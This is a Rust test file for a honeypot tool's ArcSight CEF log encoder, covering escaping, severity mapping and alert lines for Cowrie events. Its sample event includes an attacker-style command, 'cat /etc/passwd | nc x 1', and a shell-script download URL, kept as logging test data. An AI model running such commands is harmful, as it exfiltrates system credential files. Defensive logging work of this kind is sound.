use std::time::{Duration, UNIX_EPOCH};

use honeybee_store::{AlertChange, AlertRow, AlertState, StoredEvent, TimestampSource};

use super::*;

pub(crate) fn event(event_type: &str) -> StoredEvent {
    StoredEvent {
        id: 42,
        node_id: 11_364_728_073_201_639_405,
        node_name: "edge fra|1".into(),
        pot_id: "cowrie-01".into(),
        pot_type: Some("cowrie".into()),
        event_type: event_type.into(),
        timestamp: "2024-01-15T10:30:00Z".into(),
        timestamp_source: TimestampSource::Node,
        received_at: UNIX_EPOCH + Duration::from_millis(1_705_314_600_123),
        src_ip: Some("45.155.205.233".into()),
        username: Some("root".into()),
        password: Some("pa=ss\\word".into()),
        command: Some("uname -a\ncat /etc/passwd | nc x 1".into()),
        download_url: Some("http://198.51.100.4/x.sh?a=b".into()),
        sha256: Some("ab".repeat(32)),
        data: r#"{"src_ip":"45.155.205.233","src_port":50022}"#.into(),
    }
}

#[test]
fn escaping_follows_the_specification_examples() {
    // "Implementing ArcSight CEF": pipes and backslashes in the header, equal signs,
    // backslashes and line breaks in the extension; a pipe in the extension stays as it is.
    for (raw, header, extension) in [
        (
            "detected a | in message",
            "detected a \\| in message",
            "detected a | in message",
        ),
        (
            "detected a \\ in packet",
            "detected a \\\\ in packet",
            "detected a \\\\ in packet",
        ),
        ("blocked a = dst", "blocked a = dst", "blocked a \\= dst"),
        (
            "C:\\Program Files\\ArcSight",
            "C:\\\\Program Files\\\\ArcSight",
            "C:\\\\Program Files\\\\ArcSight",
        ),
        (
            "Detected a threat.\nNo action needed.",
            "Detected a threat. No action needed.",
            "Detected a threat.\\nNo action needed.",
        ),
        ("a\r\nb", "a  b", "a\\r\\nb"),
    ] {
        assert_eq!(header_field(raw), header, "header {raw:?}");
        assert_eq!(extension_value(raw), extension, "extension {raw:?}");
    }
}

#[test]
fn severities_follow_the_table() {
    for (event_type, severity) in [
        ("cowrie.login.success", 8),
        ("cowrie.session.file_download", 9),
        ("cowrie.command.input", 7),
        ("cowrie.login.failed", 5),
        ("honnypotter.login.failed", 5),
        ("cowrie.session.connect", 3),
        ("anything", 3),
    ] {
        assert_eq!(event_severity(event_type), severity, "{event_type}");
    }
}

#[test]
fn an_event_line_has_every_field() {
    let line = encode(&Item::Event(event("cowrie.command.input")));
    let version = env!("CARGO_PKG_VERSION");
    assert_eq!(
        line,
        format!(
            "CEF:0|HoneyBee|Core|{version}|cowrie.command.input|Command input|7|rt=1705314600123 \
             src=45.155.205.233 spt=50022 suser=root cs1Label=password cs1=pa\\=ss\\\\word \
             cs2Label=command cs2=uname -a\\ncat /etc/passwd | nc x 1 \
             request=http://198.51.100.4/x.sh?a\\=b fileHash={} cs3Label=node_id \
             cs3=11364728073201639405 cs4Label=pot_id cs4=cowrie-01 dvchost=edge fra|1 \
             externalId=42",
            "ab".repeat(32)
        )
    );
}

#[test]
fn ipv6_sources_and_missing_fields() {
    let mut e = event("cowrie.session.connect");
    e.src_ip = Some("2001:db8::7".into());
    (e.username, e.password, e.command, e.download_url, e.sha256) = (None, None, None, None, None);
    e.data = "{}".into();
    let line = encode(&Item::Event(e));
    assert!(
        line.contains("|cowrie.session.connect|cowrie.session.connect|3|"),
        "{line}"
    );
    assert!(
        line.contains("c6a2=2001:db8::7 c6a2Label=Source IPv6 Address"),
        "{line}"
    );
    for absent in [
        "src=",
        "spt=",
        "suser=",
        "cs1=",
        "cs2=",
        "request=",
        "fileHash=",
    ] {
        assert!(!line.contains(&format!(" {absent}")), "{absent} in {line}");
    }
}

#[test]
fn alerts_are_6_when_opened_and_2_when_cleared() {
    let row = AlertRow {
        alert_id: 12,
        kind: "node_unknown".into(),
        node_id: Some(7),
        node_name: Some("edge-1".into()),
        pot_id: None,
        message: "node edge-1 is gone".into(),
        opened_at: UNIX_EPOCH,
        cleared_at: None,
    };
    for (state, severity, act) in [
        (AlertState::Open, 6, "opened"),
        (AlertState::Cleared, 2, "cleared"),
    ] {
        let line = encode(&Item::Alert(AlertChange {
            seq: 3,
            state,
            at: UNIX_EPOCH + Duration::from_secs(60),
            alert: row.clone(),
        }));
        assert!(
            line.contains(&format!(
                "|alert:node_unknown|Alert {act}: node_unknown|{severity}|rt=60000 act={act}"
            )),
            "{line}"
        );
        assert!(line.ends_with("externalId=12"), "{line}");
    }
}
